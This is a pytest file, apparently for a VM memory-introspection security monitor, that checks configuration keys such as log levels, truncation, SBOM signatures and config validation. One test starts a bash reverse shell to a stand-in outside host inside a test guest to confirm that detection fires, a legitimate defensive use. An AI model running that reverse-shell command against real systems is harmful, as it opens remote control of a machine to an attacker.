"""Every configuration key does what docs/configuration.md says, against the
live guest (issue 12): profile_generation, a system's log_level,
sdk_log_level and scan_threads, service.scanner_sleep,
output.stdout (on and off), events.sbom given as SHA-256 signatures, `run
--check` finding what `run` would stumble on at start; argus.default's
limits.string_length, output.telemetry.user_data and an activity that is
on by default switched off, with the message header's values of
section 9."""
import hashlib
import json
import os
import re
import subprocess
import time

import pytest

from conftest import ARGUS, Service, iso_ns_seconds, run_argus
from guest import OUTSIDE, OUTSIDE_QUIET, initrd_file

SLEEP = "500ms"
NAMES = lambda svc: [m["activity_data"]["name"] for m in svc.messages]  # noqa: E731
HOST_OK = lambda m: m["activity_data"]["name"] == "Host Initialization Successful"  # noqa: E731


def scan_for(svc, systems, seconds, check_alerts=True):
    """All `systems` of svc initialized, then `seconds` of its scans; stopped."""
    try:
        assert len(svc.wait_for(HOST_OK, count=systems, timeout=60)) >= systems
        time.sleep(seconds)
    finally:
        svc.stop(check_alerts=check_alerts)


def test_profile_generation_off(guest, tmp_path):
    """profile_generation: false and os_symbols: auto: nothing pre-built to
    use, so No Matching Profile Found, and the host is not monitored."""
    svc = Service(tmp_path, guest, sleep=SLEEP, argus="  profile_generation: false\n",
                  wait_init=False)
    try:
        found = svc.wait_for(lambda m: m["activity_data"]["name"] == "No Matching Profile Found",
                             timeout=30)
        assert found, f"no 'No Matching Profile Found': {NAMES(svc)}"
        m = found[0]
        assert m["message_type"] == "SYSTEM_ACTIVITY", m
        assert "profile_generation" in json.dumps(m)
        # its only system cannot be monitored: the service ends, a failure
        assert svc.proc.wait(10) == 1
        svc.poll()
        assert "Host Initialization Successful" not in NAMES(svc), NAMES(svc)
        assert "not monitoring" in svc.stdout()
        assert "no system can be monitored" in svc.stdout()
    finally:
        svc.stop()


def test_profile_generation_off_with_isf(guest, tmp_path):
    """... while an ISF given in os_symbols is used as ever."""
    isf = tmp_path / "kernel.json.gz"
    subprocess.run([ARGUS, "profile", "--source", f"qemu:{guest.ram_path}", "-o", str(isf)],
                   check=True, capture_output=True, timeout=120)
    svc = Service(tmp_path / "svc", guest, sleep=SLEEP, argus="  profile_generation: false\n",
                  extra=f"      os_symbols: {isf}\n")
    try:
        ok = [m for m in svc.messages if m["activity_data"]["name"] ==
              "Host Initialization Successful"]
        assert "ISF" in json.dumps(ok[0]), ok[0]
        assert "No Matching Profile Found" not in NAMES(svc)
    finally:
        svc.stop()


def test_system_log_level(guest, tmp_path):
    """Two systems on one guest: the one at log_level 60 writes its debug
    lines (each scan) to the debug log, the one at 40 not even its info
    lines; the service stays at its own 50."""
    second = f"{guest.name}-quiet"
    svc = Service(tmp_path, guest, sleep=SLEEP,
                  extra=(f"      log_level: 60\n    - name: {second}\n"
                         f"      source: qemu:{guest.ram_path}\n      log_level: 40\n"))
    scan_for(svc, 2, 2)
    log = svc.debug_log()
    assert f"debug: {guest.name}: scan:" in log, log[-2000:]
    assert f"{second}: scan:" not in log
    assert f"info: {guest.name}: Host Initialization Successful" in log
    assert f"{second}: Host Initialization Successful" not in log
    # both were monitored all the same: their messages are in the event log
    with open(svc.events_path) as f:
        assert f'"{second}"' in f.read()
    # the service's own messages stay at 50: info, no debug
    assert "info: argus: Service Initialization Started" in log


def test_sdk_log_level(guest, tmp_path):
    """A system's sdk_log_level is what the layers that read its memory
    say (the source, the profile, the walks), apart from its log_level.
    Three systems on one still copy of the guest's RAM whose task list is
    cut in the middle (a task's tasks.next zeroed): at 60 the SDK tells
    the memory and kernel it found, each scan, and the cut link by its
    address, while its own log_level 40 keeps its info lines out; at the
    default 40, only the SDK's warning that the walk ended early; at 10,
    nothing at all."""
    from test_faults import cut_task_list, poke
    copy = f"/dev/shm/argus-sdk{os.getpid()}.ram"
    try:
        cut = cut_task_list(guest, copy)
        poke(copy, cut, b"\0" * 8)
        info = json.loads(run_argus("info", "--json", "--source", f"qemu:{copy}").stdout)
        link = cut + info["page_offset_base"]
        loud, default, mute = guest.name, f"{guest.name}-default", f"{guest.name}-mute"
        svc = Service(tmp_path, guest, sleep="1s", source=f"qemu:{copy}", stdout=False,
                      extra=(f"      log_level: 40\n      sdk_log_level: 60\n"
                             f"    - name: {default}\n      source: qemu:{copy}\n"
                             f"    - name: {mute}\n      source: qemu:{copy}\n"
                             f"      sdk_log_level: 10\n"))
        scan_for(svc, 3, 3, check_alerts=False)
    finally:
        if os.path.exists(copy):
            os.unlink(copy)
    log = svc.debug_log()
    lines = lambda who: [l.split(" ", 1)[1] for l in log.splitlines()  # noqa: E731
                         if f" sdk: {who}: " in l]
    said = lines(loud)
    assert f"info: sdk: {loud}: memory: qemu {copy}, " in log, log[-3000:]
    assert any(l.startswith(f"info: sdk: {loud}: kernel: Linux {info['release']} ")
               for l in said), said[:20]
    skipped = [int(re.search(r"; (\d+) objects skipped", l).group(1)) for l in said
               if l.startswith(f"debug: sdk: {loud}: scan: ")]
    assert skipped and min(skipped) >= 1, said[:40]
    assert (f"info: sdk: {loud}: skipped: task list: the link at {link:#x}: implausible pointer"
            in said), [l for l in said if "skipped" in l]
    assert f"warning: sdk: {loud}: task list walk ended early: implausible pointer after" \
        in log
    # its own log_level 40: not even its info lines
    assert f"info: {loud}: Host Initialization Successful" not in log
    said = lines(default)
    assert said and all(l.startswith(f"warning: sdk: {default}: ") for l in said), said[:20]
    assert f"warning: sdk: {default}: task list walk ended early: implausible pointer" in log
    assert lines(mute) == []
    # the default system's own log_level is the service's 50: its info lines
    assert f"info: {default}: Host Initialization Successful" in log


def test_scan_threads(guest, tmp_path):
    """scan_threads, an argus extension: a system at 2 decodes its
    processes on two threads (the SDK's debug line each scan says how many
    ran), and tells what a system at the default 1 tells of the same
    guest: a process started and ended, Created and Terminated, with the
    same attributes."""
    two, one = guest.name, f"{guest.name}-one"
    svc = Service(tmp_path, guest, sleep=SLEEP, stdout=False,
                  extra=(f"      scan_threads: 2\n      sdk_log_level: 60\n"
                         f"    - name: {one}\n      source: qemu:{guest.ram_path}\n"
                         f"      sdk_log_level: 60\n"))
    of = lambda m: m["workload_information"]["unique_identifier"]  # noqa: E731
    try:
        assert len(svc.wait_for(HOST_OK, count=2, timeout=60)) == 2
        time.sleep(2)
        since = svc.mark()
        pid = int(guest.check("(napper 60000 two threads >/dev/null 2>&1 & echo $!)"))
        told = {}
        for name in ("Process Created", "Process Terminated"):
            mine = lambda m: (m["activity_data"]["name"] == name and  # noqa: E731
                              m["activity_data"]["process_details"]["process_id"] == pid)
            got = svc.wait_for(mine, count=2, timeout=15)
            assert sorted(of(m) for m in got) == sorted([one, two]), got
            told[name] = {of(m): m["activity_data"] for m in got}
            if name == "Process Created":
                guest.check(f"kill {pid}")
        svc.expect_alerts(since)
    finally:
        svc.stop()
    # the same, but for what each read at its own moment: CPU time, state,
    # and the parent (the subshell that started napper exits: init adopts it)
    steady = lambda a: {k: v for k, v in a["process_details"].items()  # noqa: E731
                        if k not in ("process_cpu_clock_cycles", "process_state",
                                     "process_parent_process_id")}
    for name, by in told.items():
        assert steady(by[one]) == steady(by[two]), (name, by)
        assert set(by[one]["process_details"]) == set(by[two]["process_details"])
    assert by[one]["process_details"]["process_command_line_arguments"] == "napper 60000 two threads"
    log = svc.debug_log()
    ran = {who: re.findall(rf"debug: sdk: {re.escape(who)}: processes: [0-9.]+ ms on (\d+) "
                           "threads", log) for who in (one, two)}
    assert ran[two] and set(ran[two]) == {"2"}, ran
    assert ran[one] and set(ran[one]) == {"1"}, ran


def test_scanner_sleep(guest, tmp_path):
    """service.scanner_sleep is the time from one scan's start to the
    next's (the time a scan takes is subtracted, docs/configuration.md):
    at 2 s, the scans the debug log tells (log_level 60, each line stamped
    to the nanosecond as the scan ends, with its time) start 2 s apart,
    not the default's 1 s (the other tests scan every 500 ms)."""
    svc = Service(tmp_path, guest, sleep="2s", extra="      log_level: 60\n")
    scan_for(svc, 1, 11)
    stamps = []
    for line in svc.debug_log().splitlines():
        when, _, rest = line.partition(" ")
        if rest.startswith(f"debug: {guest.name}: scan: "):
            ms = float(rest.split("scan: ")[1].split(" ms")[0])
            stamps.append((iso_ns_seconds(when), ms / 1000))
    assert len(stamps) >= 4, f"{len(stamps)} scans logged in 11 s"
    starts = [t - took for t, took in stamps]
    gaps = [b - a for a, b in zip(starts, starts[1:])]
    assert all(1.95 <= g < 3.0 for g in gaps), gaps


def test_stdout_json_lines(guest, tmp_path):
    """output.stdout: every message on standard output as one JSON line,
    the same lines as the event log; the service's lines on stderr."""
    svc = Service(tmp_path, guest, sleep=SLEEP, split_stderr=True)
    guest.check("true")
    time.sleep(1.5)
    svc.stop()
    with open(os.path.join(svc.dir, "stdout.log")) as f:
        out = f.read().splitlines()
    with open(svc.events_path) as f:
        log = f.read().splitlines()
    with open(os.path.join(svc.dir, "stderr.log")) as f:
        err = f.read()
    assert out, "nothing on stdout"
    for line in out:
        m = json.loads(line)           # each one whole JSON message, section 9's
        assert m["vendor_name"] == "NVIDIA" and "message_header" not in m, m    # root
    assert out == log
    assert "argus: argus" in err and "started" in err, err
    assert "argus stopped" in err
    assert "Host Initialization Successful" not in err or "{" not in err


def test_string_length_user_data_stdout_off_and_an_activity_off(guest, tmp_path):
    """argus.default.limits.string_length 40: the guest's strings in
    messages cut at 40 characters and marked, detection unhindered (a
    reverse shell from a bash whose path is 70 characters long is alerted:
    by its content, as ever); output.telemetry.user_data in every message
    (escaped); output.stdout false: nothing on standard output;
    collection.process_created false: a process's birth is not told, its
    end is.  Every message's header carries section 9's enum values."""
    MARK = "[...truncated]"
    user_data = 'rack 7 "b" \\ \u00e9'      # quotes, a backslash, a non-ASCII letter
    d = "/tmp/" + "d" * 60
    svc = Service(tmp_path, guest, sleep=SLEEP, split_stderr=True, stdout=False,
                  argus="  default:\n    limits:\n      string_length: 40\n",
                  collection="  process_created: false\n",
                  output=f"  telemetry:\n    user_data: {json.dumps(user_data)}\n")
    try:
        guest.check(f"mkdir -p {d} && cp /bin/bash {d}/bash")
        since = svc.mark()
        args = "napper 3000 " + "x" * 50
        pid = int(guest.check(f"cd {d} && ({args} >/dev/null 2>&1 & echo $!)"))
        shell = guest.spawn(f"{d}/bash -c 'exec {d}/bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
        found = svc.wait_for(lambda m: m["activity_data"]["name"] == "Reverse Shell Detected",
                             timeout=4 * svc.sleep_s + 5)
        assert found, "the reverse shell from a long path was not alerted"
        p = found[0]["activity_data"]["process_list"][0]["process_details"]
        assert p["process_id"] == shell and p["process_name"] == "bash", p
        assert p["process_executable_path"] == (d + "/bash")[:40] + MARK, p
        # §11.8: the shell's descriptors, 0 to 2 on its connection
        fds = {f["file_descriptor_details"]["file_descriptor_index"]: f["file_descriptor_details"]
               for f in p["file_descriptor_list"]}
        assert {0, 1, 2} <= set(fds), fds
        assert len({fds[i]["file_descriptor_name"] for i in (0, 1, 2)}) == 1, fds
        assert all(fds[i]["file_descriptor_file_type"] == "SOCKET" and
                   fds[i]["file_descriptor_name"].startswith("socket:[") for i in (0, 1, 2)), fds
        guest.run(f"kill -9 {shell}; kill {pid}")
        gone = svc.wait_for(lambda m: m["activity_data"]["name"] == "Process Terminated" and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=4 * svc.sleep_s + 5)
        assert gone, "napper's end was not told"
        p = gone[0]["activity_data"]["process_details"]
        assert p["process_command_line_arguments"] == args[:40] + MARK, p
        assert p["process_current_working_directory"] == d[:40] + MARK, p
        assert p["process_name"] == "napper"
        time.sleep(2 * svc.sleep_s)
        svc.poll()
        mine = svc.messages[since:]
        born = [m for m in mine if m["activity_data"]["name"] == "Process Created"]
        assert not born, f"process_created is off, yet: {born[:2]}"
        svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))
    finally:
        guest.run(f"rm -rf {d}")
        svc.stop()
    # the header of every message, the service's own included
    ifaces = set(os.listdir("/sys/class/net"))
    for m in svc.messages:
        assert m["vendor_name"] == "NVIDIA" and m["product_name"] == "DOCA_ARGUS", m
        assert m["user_data"] == user_data, m["user_data"]
        assert m["message_timezone"] == "UTC" and m["schema_version"] == "1.0"
        for i in m["bluefield_system_information"]["bluefield_networking_interfaces"].values():
            name = i["bluefield_network_interface_name"]
            assert name in ifaces, i
            with open(f"/sys/class/net/{name}/address") as f:
                assert i["bluefield_network_interface_mac_address"] == f.read().strip(), i
    assert svc.messages and not open(os.path.join(svc.dir, "stdout.log")).read(), \
        "output.stdout is false, yet messages went to standard output"


def test_string_length_keeps_deleted(guest):
    """A cut path keeps what the kernel says after it: an unlinked
    executable's path, cut at 16, still ends with " (deleted)" (the build
    before lost it)."""
    pid = guest.spawn("cp /bin/bash /tmp/dxlongname_for_cut && exec /tmp/dxlongname_for_cut "
                      "-c 'rm /tmp/dxlongname_for_cut; while :; do sleep 1000; done'")
    try:
        time.sleep(1)
        d = json.loads(run_argus("scan", "--once", "--json", "--limit", "string_length=16",
                                 *guest.argus_source()).stdout)
    finally:
        guest.run(f"kill {pid}")
    [p] = [p for p in d["processes"] if p["process_id"] == pid]
    assert p["process_executable_path"] == "/tmp/dxlongname_[...truncated] (deleted)", p
    assert d["scan_statistics"]["strings_truncated"] >= 1


# ---- events.sbom as SHA-256 signatures (section 7.3) ----

@pytest.fixture(scope="module")
def image_hashes(tmp_path_factory):
    """The SHA-256 of every ELF file of the guest's initramfs."""
    d = tmp_path_factory.mktemp("rootfs")
    initrd = initrd_file(os.path.join(os.environ.get("ARGUS_CACHE",
                                                     os.path.expanduser("~/.cache/argus")),
                                      "linux-image-6.1.0-56-cloud-amd64"))
    subprocess.run(f"zcat {initrd} | cpio -id --quiet", shell=True, cwd=d, check=True)
    hashes = {}
    for root, _, files in os.walk(d):
        for n in files:
            p = os.path.join(root, n)
            if os.path.islink(p) or not os.path.isfile(p):
                continue
            with open(p, "rb") as f:
                data = f.read()
            if data[:4] == b"\x7fELF":
                hashes["/" + os.path.relpath(p, d)] = hashlib.sha256(data).hexdigest()
    assert "/bin/threads" in hashes
    return hashes


def test_sbom_signatures(guest, tmp_path, image_hashes):
    """A list of signatures passes --check and is used at start: a binary
    whose hash is listed runs quietly from any path; one not listed is a
    Foreign Binary Executed."""
    sigs = sorted(set(image_hashes.values()))
    items = "".join(f"          - {'sha256:' if i % 2 else ''}{h}\n" for i, h in enumerate(sigs))
    svc = Service(tmp_path, guest, sleep=SLEEP, extra=f"      events:\n        sbom:\n{items}")
    ok = bad = None
    try:
        chk = subprocess.run([ARGUS, "run", "--config", svc.config, "--check"],
                             capture_output=True, text=True, timeout=30)
        assert chk.returncode == 0, chk.stderr
        time.sleep(2)
        assert not svc.unexpected_alerts(), svc.unexpected_alerts()
        since = svc.mark()
        # the image's own binary, from a path the image never had: approved
        guest.check("cp /bin/threads /tmp/approved")
        ok = guest.spawn("exec /tmp/approved 0 6")
        # a changed copy: not approved
        guest.check("cp /bin/threads /tmp/evil && printf x >>/tmp/evil")
        bad = guest.spawn("exec /tmp/evil 0 6")
        deadline = time.time() + 10
        while time.time() < deadline:
            svc.poll()
            if any(m["activity_data"]["name"] == "Foreign Binary Executed" and
                   m["activity_data"]["process_details"]["process_id"] == bad
                   for m in svc.messages[since:]):
                break
            time.sleep(0.2)
        found = svc.expect_alerts(since, ("Foreign Binary Executed",
                                          lambda a: a["process_details"]["process_id"] == bad, 1))
        a = found["Foreign Binary Executed"][0]["activity_data"]
        assert a["elf_file_details"]["elf_file_path"] == "/tmp/evil"
        assert not [m for m in svc.messages[since:] if
                    m["activity_data"].get("process_details", {}).get("process_id") == ok and
                    m["message_type"] == "ALERT"]
        # and argus did judge it: its silence is a verdict
        assert [m for m in svc.messages[since:] if m["activity_data"]["name"] == "Process Created"
                and m["activity_data"]["process_details"]["process_id"] == ok], \
            "argus never saw /tmp/approved run"
    finally:
        pids = " ".join(str(p) for p in (ok, bad) if p)
        guest.run(f"{'kill ' + pids + ' 2>/dev/null; ' if pids else ''}rm -f /tmp/approved /tmp/evil")
        svc.stop()


# ---- run --check finds what run would hit at start ----

def _config(tmp_path, guest, system="", output="", argus=""):
    p = tmp_path / "argus.yaml"
    p.write_text(f"service:\n  debug_log_folder: {tmp_path}/debug\n"
                 f"argus:\n{argus}  systems:\n    - name: g\n      source: qemu:{guest.ram_path}\n"
                 f"{system}output:\n  log_folder: {tmp_path}/events\n{output}")
    return p


def _both(cfg, line, *needles):
    """--check and run alike: exit 2, one line naming the file, the line and
    the key."""
    for args in (["--check"], []):
        p = subprocess.run([ARGUS, "run", "--config", str(cfg), *args], capture_output=True,
                           text=True, timeout=20)
        lines = [x for x in p.stderr.splitlines() if x.strip()]
        assert p.returncode == 2, (args, p.returncode, p.stderr)
        assert len(lines) == 1, p.stderr
        assert lines[0].startswith(f"argus: {cfg}:{line}:"), lines[0]
        for n in needles:
            assert n in lines[0], (n, lines[0])


@pytest.mark.parametrize("case", ["sbom_missing", "sbom_fifo", "sbom_bad_hash", "telemetry_port",
                                  "os_symbols_missing", "os_symbols_fifo", "regions_missing",
                                  "log_folder", "no_system"])
def test_check_finds_start_errors(guest, tmp_path, case):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    (tmp_path / "afile").write_text("x")
    c = {
        "sbom_missing": (dict(system=f"      events:\n        sbom: [{tmp_path}/none.json]\n"),
                         8, ["sbom", "none.json"]),
        "sbom_fifo": (dict(system=f"      events:\n        sbom: [{fifo}]\n"), 8,
                      ["sbom", "not a regular file"]),
        "sbom_bad_hash": (dict(system="      events:\n        sbom: [deadbeef]\n"), 8,
                          ["sbom", "SHA-256"]),
        "telemetry_port": (dict(output="  telemetry:\n    address: host:80abc\n"), 10,
                           ["address", "80abc"]),
        "os_symbols_missing": (dict(system=f"      os_symbols: {tmp_path}/nope.json\n"), 7,
                               ["os_symbols", "nope.json"]),
        "os_symbols_fifo": (dict(system=f"      os_symbols: {fifo}\n"), 7,
                            ["os_symbols", "not a regular file"]),
        "regions_missing": (dict(system=f"      memory_regions: {tmp_path}/r.json\n"), 7,
                            ["memory_regions", "r.json"]),
        "log_folder": (dict(output=f"  log_folder: {tmp_path}/afile/events\n"), 8,
                       ["log_folder", "not a folder"]),
        "no_system": (dict(argus="  auto_scan: false\n  systems: []\n"), 5,
                      ["no system to monitor"]),
    }[case]
    kw, line, needles = c
    if case == "no_system":
        p = tmp_path / "argus.yaml"
        p.write_text(f"service:\n  debug_log_folder: {tmp_path}/debug\nargus:\n{kw['argus']}"
                     f"output:\n  log_folder: {tmp_path}/events\n")
    elif case == "log_folder":
        p = tmp_path / "argus.yaml"
        p.write_text(f"service:\n  debug_log_folder: {tmp_path}/debug\n"
                     f"argus:\n  systems:\n    - name: g\n      source: qemu:{guest.ram_path}\n"
                     f"output:\n{kw['output']}")
    else:
        p = _config(tmp_path, guest, **kw)
    _both(p, line, *needles)
